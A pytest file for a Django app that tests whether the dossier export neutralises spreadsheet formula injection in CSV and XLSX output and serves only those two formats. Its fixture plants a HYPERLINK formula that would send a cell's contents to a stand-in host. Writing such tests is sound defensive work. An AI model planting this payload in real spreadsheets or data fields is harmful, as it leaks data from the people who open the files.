"""Security of the cockpit's export of dossiers: a typed name is text, never a formula; only CSV and XLSX answer."""

import csv
import io

import pytest
from openpyxl import load_workbook

from pilotactions.accounts.enums import RoleKind as R
from pilotactions.territories.models import Authority
from tests.factories import login, make_action, make_campaign, make_contract, make_role

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://exemple.invalid/?"&B2,"Voir")'


@pytest.fixture
def campaign():
    Authority.objects.filter(code="59").update(name=FORMULA)
    make_action(make_contract("59"), lines=[(2024, "authority", "10")])
    return make_campaign()


def test_the_dossiers_export_never_holds_a_formula(client, campaign):
    login(client, make_role(R.NATIONAL_ADMIN))
    rows = list(csv.DictReader(io.StringIO(client.get(f"/campagnes/{campaign.pk}/dossiers.csv").getvalue().decode())))
    assert [row["authority_name"] for row in rows] == ["'" + FORMULA]
    response = client.get(f"/campagnes/{campaign.pk}/dossiers.xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content)))["Dossiers"]
    cell = sheet.cell(row=2, column=4)
    assert (cell.value, cell.data_type) == (FORMULA, "s")


@pytest.mark.parametrize("extension", ["html", "ods", "CSV"])
def test_only_the_documented_formats_answer(client, campaign, extension):
    login(client, make_role(R.NATIONAL_ADMIN))
    assert client.get(f"/campagnes/{campaign.pk}/dossiers.{extension}").status_code == 404
